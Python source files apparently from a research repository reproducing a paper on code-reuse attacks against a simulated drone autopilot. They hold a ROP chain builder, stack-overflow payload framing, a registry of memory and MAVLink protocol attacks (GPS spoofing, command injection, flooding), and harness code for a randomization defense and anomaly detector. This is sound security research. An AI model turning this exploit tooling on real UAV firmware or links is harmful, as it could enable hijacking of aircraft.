def find_handler_call_site(image: FirmwareImage, handler: str = "mavlink_handle_rx") -> int:
    """Locate the ``call <handler>`` site by static disassembly.

    Scans every function (real firmware reaches the handler through a
    comms task, not straight from ``main``).
    """
    target_word = image.symbols.get(handler).word_address
    for function in image.symbols.functions():
        if function.name == handler:
            continue
        offset = function.address
        while offset < function.end:
            try:
                insn, size = decode_at(image.code, offset)
            except DecodeError:
                offset += 2
                continue
            if insn.mnemonic is Mnemonic.CALL and insn.k == target_word:
                return offset
            if insn.mnemonic is Mnemonic.RCALL:
                resolved = offset // 2 + 1 + insn.k
                if resolved == target_word:
                    return offset
            offset += size
    raise AttackError(f"no call to {handler} found in the image")


def derive_runtime_facts(
    image: FirmwareImage,
    handler: str = "mavlink_handle_rx",
    max_instructions: int = 500_000,
) -> RuntimeFacts:
    """Dry-run the binary up to the handler call and read the machine state."""
    call_site = find_handler_call_site(image, handler)
    insn, size = decode_at(image.code, call_site)
    return_address_word = call_site // 2 + size // 2

    cpu = AvrCpu()
    cpu.load_program(image.code)
    cpu.reset()
    executed = 0
    while cpu.pc_bytes != call_site:
        cpu.step()
        executed += 1
        if executed >= max_instructions:
            raise AttackError(
                "dry run never reached the handler call site "
                f"(0x{call_site:05x})"
            )
    sp_before = cpu.data.sp
    frame_sp = sp_before - 3  # the call pushes a 3-byte return address
    # frame layout inside the handler: push r28, push r29, then an
    # RX_BUFFER_SIZE-byte frame; buffer starts just above the moved SP
    buffer_start = frame_sp - 2 - RX_BUFFER_SIZE + 1
    return RuntimeFacts(
        call_site=call_site,
        return_address_word=return_address_word,
        frame_sp=frame_sp,
        saved_r28=cpu.data.read_reg(28),
        saved_r29=cpu.data.read_reg(29),
        buffer_start=buffer_start,
        buffer_size=RX_BUFFER_SIZE,
    )


def variable_address(image: FirmwareImage, name: str) -> int:
    """SRAM data-space address of a named firmware variable."""
    symbol = image.symbols.get(name)
    if symbol.address < DATA_SPACE_FLAG:
        raise AttackError(f"{name} is not an SRAM variable")
    return symbol.address - DATA_SPACE_FLAG
