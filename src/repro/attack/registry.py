"""Pluggable attack registry: every attack kind the scenario layer can play.

Before this module, the v1/v2/v3/guess/oracle wiring lived as string
literals spread across ``sim/scenario.py``, ``tools/cli.py`` and
``sim/serve.py`` — adding an attack meant editing three dispatch tables
in sync.  Now each attack is one :class:`AttackKind` descriptor
registered here, and everything else derives from the registry:

* ``ScenarioSpec`` validation (:data:`repro.sim.ATTACK_VARIANTS` is
  ``attack_names()``),
* the scenario runner's build/inject dispatch (:meth:`AttackKind.inject`
  returns an :class:`AttackPlay` the runner folds into the result),
* the CLI's ``--variant``/``--attack`` choice tuples,
* the per-kind expected-anomaly sets the ground-station detector is
  scored against (``analysis.detector_eval``).

Two layers exist:

* ``memory`` — the paper's code-reuse tier: payloads enter the vulnerable
  firmware's MAVLink receive buffer and corrupt SRAM/EEPROM state.
* ``protocol`` — the link tier: well-formed MAVLink frames injected on
  the GCS↔UAV channel (``repro.mavlink.attacks``), judged by the
  stateful :class:`~repro.uav.groundstation.GcsAnomalyDetector`.

Hook bodies import their heavy dependencies lazily (the repo-wide idiom
for crossing package layers), so importing the registry costs nothing
and no attack↔sim import cycle can form.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, Optional, Tuple

#: the two places an attack can land
MEMORY_LAYER = "memory"
PROTOCOL_LAYER = "protocol"
ATTACK_LAYERS = (MEMORY_LAYER, PROTOCOL_LAYER)


@dataclass(frozen=True)
class AttackPlay:
    """What one :meth:`AttackKind.inject` call did to the board.

    The scenario runner folds this into the :class:`ScenarioResult`:
    a memory-tier play carries the classic :class:`AttackOutcome`; a
    protocol-tier play carries the session's ``ProtocolOutcome`` (frame
    counts, detector verdict, per-kind effect) instead.
    """

    delivered_bytes: int = 0
    #: memory-tier outcome (AttackOutcome), or None
    outcome: Optional[object] = None
    #: True when the inject hook already observed the aftermath itself,
    #: so the runner must skip its own observe run
    observe_done: bool = False
    #: protocol-tier outcome (mavlink.attacks.ProtocolOutcome), or None
    protocol: Optional[object] = None


@dataclass(frozen=True)
class AttackKind:
    """One registered attack: identity, contract and lifecycle hooks."""

    name: str
    layer: str                           # MEMORY_LAYER | PROTOCOL_LAYER
    summary: str                         # one line for docs/CLI help
    #: ScenarioSpec fields this kind actually reads (documentation and
    #: CLI-derivation contract; "attack_seed" marks layout-guessing kinds)
    required_fields: Tuple[str, ...] = ()
    #: detector anomaly kinds this attack is expected to trip (protocol
    #: tier only; the precision/recall scoring keys off this set)
    expected_anomalies: Tuple[str, ...] = ()
    #: spec -> None, raising ValueError on an invalid combination
    validate: Optional[Callable] = None
    #: (spec, telemetry, cache, base_image) -> Board, for kinds that fly
    #: a transformed image; None = the standard Board(spec) construction
    build_board: Optional[Callable] = None
    #: (spec, board, base_image) -> AttackPlay
    inject: Optional[Callable] = None

    def __post_init__(self) -> None:
        if self.layer not in ATTACK_LAYERS:
            raise ValueError(f"unknown attack layer {self.layer!r}")


_REGISTRY: Dict[str, AttackKind] = {}


def register_kind(kind: AttackKind) -> AttackKind:
    """Add one kind; names are unique and registration order is kept."""
    if kind.name in _REGISTRY:
        raise ValueError(f"attack kind {kind.name!r} already registered")
    _REGISTRY[kind.name] = kind
    return kind


def attack_kind(name: str) -> AttackKind:
    try:
        return _REGISTRY[name]
    except KeyError:
        raise ValueError(
            f"unknown attack kind {name!r}; "
            f"expected one of {attack_names()}"
        ) from None


def attack_kinds(layer: Optional[str] = None) -> Tuple[AttackKind, ...]:
    """Registered kinds, in registration order, optionally one layer."""
    return tuple(
        kind for kind in _REGISTRY.values()
        if layer is None or kind.layer == layer
    )


def attack_names(layer: Optional[str] = None) -> Tuple[str, ...]:
    return tuple(kind.name for kind in attack_kinds(layer))


# -- memory tier: the paper's code-reuse attacks ------------------------------

def _variant_class(name: str):
    if name == "v1":
        from .v1_basic import BasicAttack as cls
    elif name == "v2":
        from .v2_stealthy import StealthyAttack as cls
    elif name == "v3":
        from .v3_trampoline import TrampolineAttack as cls
    elif name == "v4":
        from .v4_persistence import PersistenceAttack as cls
    else:  # pragma: no cover - registration bug
        raise ValueError(f"no attack class for {name!r}")
    return cls


def _inject_variant(spec, board, base) -> AttackPlay:
    """V1-V4 built against the base (pre-randomization) layout.

    Against an unprotected board the attack's own delivery protocol
    observes the aftermath (the paper's §IV demonstration); against a
    protected board the payload lands on a randomized layout and the
    master-supervised observe run plays out in the scenario runner.
    """
    cls = _variant_class(spec.attack)
    attack = cls(base, telemetry=board.telemetry)
    kwargs = {
        "observe_ticks": 0 if spec.protected else spec.observe_ticks
    }
    if spec.attack in ("v1", "v2"):
        kwargs.update(
            target_variable=spec.target_variable, values=spec.values
        )
    outcome = attack.execute(board.autopilot, **kwargs)
    return AttackPlay(
        delivered_bytes=outcome.delivered_bytes,
        outcome=outcome,
        observe_done=not spec.protected,
    )


def _inject_guess(spec, board, base) -> AttackPlay:
    """One wrong-layout replay: the §VII-A1 guessing attacker.

    The attacker randomizes their own copy of the public binary
    (``attack_seed``), builds a V2 exploit against that guess, and aims
    at the base layout's SRAM address (stack geometry and the data space
    are layout-invariant; the code layout is the secret).
    """
    import random

    from ..core import randomize_image
    from ..mavlink.messages import PARAM_SET
    from ..uav.groundstation import MaliciousGroundStation
    from .chain import Write3
    from .runtime_facts import derive_runtime_facts, variable_address
    from .v2_stealthy import StealthyAttack

    guess, _permutation = randomize_image(base, random.Random(spec.attack_seed))
    facts = derive_runtime_facts(base)  # stack geometry is layout-invariant
    exploit = StealthyAttack(guess, facts)
    target = variable_address(base, spec.target_variable)
    burst = MaliciousGroundStation().exploit_burst(
        PARAM_SET.msg_id, exploit.attack_bytes([Write3(target, spec.values)])
    )
    board.autopilot.receive_bytes(burst)
    return AttackPlay(delivered_bytes=len(burst))


def _validate_oracle(spec) -> None:
    if spec.protected:
        raise ValueError("the oracle attacker targets an unprotected board")


def _build_oracle_board(spec, telemetry, cache, base):
    """The oracle flies a *randomized* image whose layout it fully knows
    (the situation the readout fuse prevents)."""
    import random

    from ..core import randomize_image
    from ..sim.scenario import Board

    randomized, _permutation = randomize_image(
        base, random.Random(spec.attack_seed)
    )
    board = Board(spec, telemetry, image=randomized)
    # host-side SRAM map: randomization never moves data
    board.autopilot.debug_symbols = base.symbols
    return board


def _inject_oracle(spec, board, base) -> AttackPlay:
    """Full-knowledge attacker vs the randomized image it knows."""
    from .v2_stealthy import StealthyAttack

    outcome = StealthyAttack(board.image, telemetry=board.telemetry).execute(
        board.autopilot,
        target_variable=spec.target_variable,
        values=spec.values,
        observe_ticks=spec.observe_ticks,
    )
    # delivered_bytes stays 0: the pre-registry runner never surfaced the
    # oracle's delivery size, and the record contract pins that shape
    return AttackPlay(outcome=outcome, observe_done=True)


# -- protocol tier: MAVLink link attacks --------------------------------------

def _inject_protocol(spec, board, base) -> AttackPlay:
    from ..mavlink.attacks import run_protocol_attack

    kind = attack_kind(spec.attack)
    outcome = run_protocol_attack(
        spec, [board], kind.name, kind.expected_anomalies,
        telemetry=board.telemetry,
    )
    return AttackPlay(
        delivered_bytes=outcome.attack_bytes,
        observe_done=True,
        protocol=outcome,
    )


# -- registrations (order defines ATTACK_VARIANTS / CLI choice order) ---------

register_kind(AttackKind(
    name="v1", layer=MEMORY_LAYER,
    summary="basic stack smash: overwrite the return address, crash loud",
    required_fields=("target_variable", "values"),
    inject=_inject_variant,
))
register_kind(AttackKind(
    name="v2", layer=MEMORY_LAYER,
    summary="stealthy code reuse: gadget chain writes SRAM, returns clean",
    required_fields=("target_variable", "values"),
    inject=_inject_variant,
))
register_kind(AttackKind(
    name="v3", layer=MEMORY_LAYER,
    summary="trampoline: stage a second-phase payload through gadgets",
    required_fields=(),
    inject=_inject_variant,
))
register_kind(AttackKind(
    name="guess", layer=MEMORY_LAYER,
    summary="layout-guessing replay vs a randomized board (§VII-A1)",
    required_fields=("attack_seed", "target_variable", "values"),
    inject=_inject_guess,
))
register_kind(AttackKind(
    name="oracle", layer=MEMORY_LAYER,
    summary="full-knowledge attacker vs the randomized image it knows",
    required_fields=("attack_seed", "target_variable", "values"),
    validate=_validate_oracle,
    build_board=_build_oracle_board,
    inject=_inject_oracle,
))
register_kind(AttackKind(
    name="v4", layer=MEMORY_LAYER,
    summary="persistence: gadget chain programs the EEPROM config block",
    required_fields=(),
    inject=_inject_variant,
))
register_kind(AttackKind(
    name="replay", layer=PROTOCOL_LAYER,
    summary="capture benign GCS frames, re-send them verbatim later",
    required_fields=("attack_seed",),
    expected_anomalies=("seq_gap",),
    inject=_inject_protocol,
))
register_kind(AttackKind(
    name="gps_spoof", layer=PROTOCOL_LAYER,
    summary="forge drifting GLOBAL_POSITION_INT reports for the UAV",
    required_fields=("attack_seed",),
    expected_anomalies=("geofence",),
    inject=_inject_protocol,
))
register_kind(AttackKind(
    name="waypoint_inject", layer=PROTOCOL_LAYER,
    summary="append rogue MISSION_ITEM waypoints from a forged GCS",
    required_fields=("attack_seed",),
    expected_anomalies=("seq_gap",),
    inject=_inject_protocol,
))
register_kind(AttackKind(
    name="command_inject", layer=PROTOCOL_LAYER,
    summary="forge a COMMAND_LONG (mode change) from the GCS identity",
    required_fields=("attack_seed",),
    expected_anomalies=("seq_gap",),
    inject=_inject_protocol,
))
register_kind(AttackKind(
    name="flood", layer=PROTOCOL_LAYER,
    summary="saturate the uplink with valid and CRC-corrupt frames (DoS)",
    required_fields=("attack_seed",),
    expected_anomalies=("rate", "crc_fail"),
    inject=_inject_protocol,
))
