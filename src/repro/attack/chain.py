"""ROP chain construction.

Encodes the paper's two-gadget technique as reusable building blocks:

* a **pop block** — the bytes a gadget's pop chain consumes, laid out in
  pop order (the stack grows down but pops walk *up*, so byte ``i`` of a
  block loads ``pop_regs[i]``);
* a **return slot** — a 3-byte gadget address.  ``ret`` pops high, middle,
  low, so the high byte sits at the lowest address (big-endian in memory);
* a **write chain** — enter ``write_mem_gadget`` at its pop half once,
  then bounce on its std half: each bounce stores r5/r6/r7 through Y and
  reloads every register (including Y) for the next bounce.  The paper
  calls this "using the second half of the program section as our first
  gadget, and then the first half to store the values".

Targets are data-space byte addresses; gadget entries are flash word
addresses.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Sequence, Tuple

from ..binfmt.image import FirmwareImage
from ..errors import AttackError
from .gadgets import GadgetFinder, StkMoveGadget, WriteMemGadget

FILL_BYTE = 0xEE  # recognizable filler in payload dumps


def ret_address_bytes(word_address: int) -> bytes:
    """The 3 bytes ``ret`` expects, in memory order (high, mid, low)."""
    if not 0 <= word_address < (1 << 22):
        raise AttackError(f"gadget word address out of range: {word_address:#x}")
    return bytes([
        (word_address >> 16) & 0xFF,
        (word_address >> 8) & 0xFF,
        word_address & 0xFF,
    ])


@dataclass(frozen=True)
class Write3:
    """One 3-byte store performed by a write_mem bounce."""

    target: int  # data-space address of the first stored byte
    values: bytes  # exactly the bytes the gadget's stores cover

    def __post_init__(self) -> None:
        if not 0 <= self.target <= 0xFFFF:
            raise AttackError(f"write target out of range: {self.target:#x}")


class ChainBuilder:
    """Builds payload byte sequences from an image's discovered gadgets."""

    def __init__(self, image: FirmwareImage) -> None:
        finder = GadgetFinder(image)
        self.image = image
        self.stk: StkMoveGadget = finder.find_stk_move()
        self.wm: WriteMemGadget = finder.find_write_mem()
        if self.stk.pop_regs[:2] != (28, 29):
            raise AttackError(
                "stk_move gadget does not reload Y first: "
                f"pops {self.stk.pop_regs}"
            )

    # -- low-level blocks --------------------------------------------------

    def pop_block(self, values: Dict[int, int]) -> bytes:
        """Bytes consumed by the write_mem pop chain, given register values."""
        out = bytearray()
        for reg in self.wm.pop_regs:
            out.append(values.get(reg, FILL_BYTE) & 0xFF)
        return bytes(out)

    def _regs_for_write(self, write: Write3) -> Dict[int, int]:
        """Register assignment that makes one std bounce perform ``write``."""
        stores = self.wm.stores  # ((q, reg), ...) — q=1..3 for the Fig 5 shape
        if len(write.values) != len(stores):
            raise AttackError(
                f"write of {len(write.values)} bytes does not match the "
                f"gadget's {len(stores)} stores"
            )
        base_q = stores[0][0]
        y = write.target - base_q
        if not 0 <= y <= 0xFFFF:
            raise AttackError(f"Y base out of range for target {write.target:#x}")
        regs = {28: y & 0xFF, 29: (y >> 8) & 0xFF}
        for index, ((q, reg), value) in enumerate(zip(stores, write.values)):
            if q != base_q + index:
                raise AttackError(
                    "non-contiguous store displacements: "
                    f"{[s[0] for s in stores]}"
                )
            regs[reg] = value
        return regs

    # -- chain segments -----------------------------------------------------

    def write_chain(
        self,
        writes: Sequence[Write3],
        final_ret_word: int,
        final_regs: Dict[int, int],
    ) -> bytes:
        """The byte stream consumed from the first pop-half entry onwards.

        Layout: ``N`` write blocks each returning into the std half, then a
        final block whose ret goes to ``final_ret_word`` with ``final_regs``
        loaded (e.g. r28/r29 = new stack for a closing stk_move hop).
        """
        out = bytearray()
        for write in writes:
            out += self.pop_block(self._regs_for_write(write))
            out += ret_address_bytes(self.wm.std_entry_word)
        # entering the std half one last time performs the final write; its
        # pops then load final_regs and its ret leaves the chain
        out += self.pop_block(final_regs)
        out += ret_address_bytes(final_ret_word)
        return bytes(out)

    def chain_block(
        self,
        writes: Sequence[Write3],
        final_ret_word: int,
        final_regs: Dict[int, int],
    ) -> bytes:
        """A relocatable chain segment entered via a stk_move hop.

        Byte 0 is what SP+1 points at after ``stk_move`` lands: three bytes
        for its pops (r28/r29/r16 — unused here), a ret slot into the
        write_mem pop half, then the write chain.
        """
        header = bytes([FILL_BYTE] * self.stk.pop_bytes)
        header += ret_address_bytes(self.wm.pop_entry_word)
        return header + self.write_chain(writes, final_ret_word, final_regs)

    def chain_block_cost(self, write_count: int) -> int:
        """Size in bytes of :meth:`chain_block` for ``write_count`` writes."""
        per_block = self.wm.pop_bytes + 3
        return self.stk.pop_bytes + 3 + (write_count + 1) * per_block

    # -- overflow framing ----------------------------------------------------

    def overflow_payload(
        self,
        buffer_fill: bytes,
        buffer_size: int,
        r29: int,
        r28: int,
        ret_word: int,
    ) -> bytes:
        """The raw bytes the vulnerable copy loop must receive.

        ``buffer_fill`` occupies the buffer (padded with filler); the two
        following bytes land in the saved r29/r28 slots and the last three
        overwrite the pushed return address.
        """
        if len(buffer_fill) > buffer_size:
            raise AttackError(
                f"chain of {len(buffer_fill)} bytes exceeds the "
                f"{buffer_size}-byte buffer"
            )
        padded = buffer_fill + bytes([FILL_BYTE]) * (buffer_size - len(buffer_fill))
        return padded + bytes([r29 & 0xFF, r28 & 0xFF]) + ret_address_bytes(ret_word)

    def split_writes(self, target: int, data: bytes) -> List[Write3]:
        """Split an arbitrary byte string into gadget-sized Write3 stores."""
        width = len(self.wm.stores)
        writes: List[Write3] = []
        for offset in range(0, len(data), width):
            chunk = data[offset : offset + width]
            if len(chunk) < width:
                chunk = chunk + bytes([FILL_BYTE]) * (width - len(chunk))
            writes.append(Write3(target + offset, chunk))
        return writes
