"""Stealthy code-reuse attacks against the simulated APM (paper §IV)."""

from .chain import ChainBuilder, FILL_BYTE, Write3, ret_address_bytes
from .registry import (
    ATTACK_LAYERS,
    MEMORY_LAYER,
    PROTOCOL_LAYER,
    AttackKind,
    AttackPlay,
    attack_kind,
    attack_kinds,
    attack_names,
    register_kind,
)
from .gadgets import Gadget, GadgetFinder, StkMoveGadget, WriteMemGadget
from .results import AttackOutcome, deliver
from .runtime_facts import (
    RuntimeFacts,
    derive_runtime_facts,
    find_handler_call_site,
    variable_address,
)
from .stacktrace import AttackTrace, trace_stealthy_attack
from .v1_basic import BasicAttack, GARBAGE_WORD
from .v2_stealthy import StealthyAttack
from .v3_trampoline import DEFAULT_STAGING_BASE, TrampolineAttack
from .v4_persistence import (
    PersistenceAttack,
    config_block_pairs,
    eeprom_program_writes,
)

__all__ = [
    "ATTACK_LAYERS",
    "MEMORY_LAYER",
    "PROTOCOL_LAYER",
    "AttackKind",
    "AttackPlay",
    "attack_kind",
    "attack_kinds",
    "attack_names",
    "register_kind",
    "ChainBuilder",
    "FILL_BYTE",
    "Write3",
    "ret_address_bytes",
    "Gadget",
    "GadgetFinder",
    "StkMoveGadget",
    "WriteMemGadget",
    "AttackOutcome",
    "deliver",
    "RuntimeFacts",
    "derive_runtime_facts",
    "find_handler_call_site",
    "variable_address",
    "AttackTrace",
    "trace_stealthy_attack",
    "BasicAttack",
    "GARBAGE_WORD",
    "StealthyAttack",
    "DEFAULT_STAGING_BASE",
    "TrampolineAttack",
    "PersistenceAttack",
    "config_block_pairs",
    "eeprom_program_writes",
]
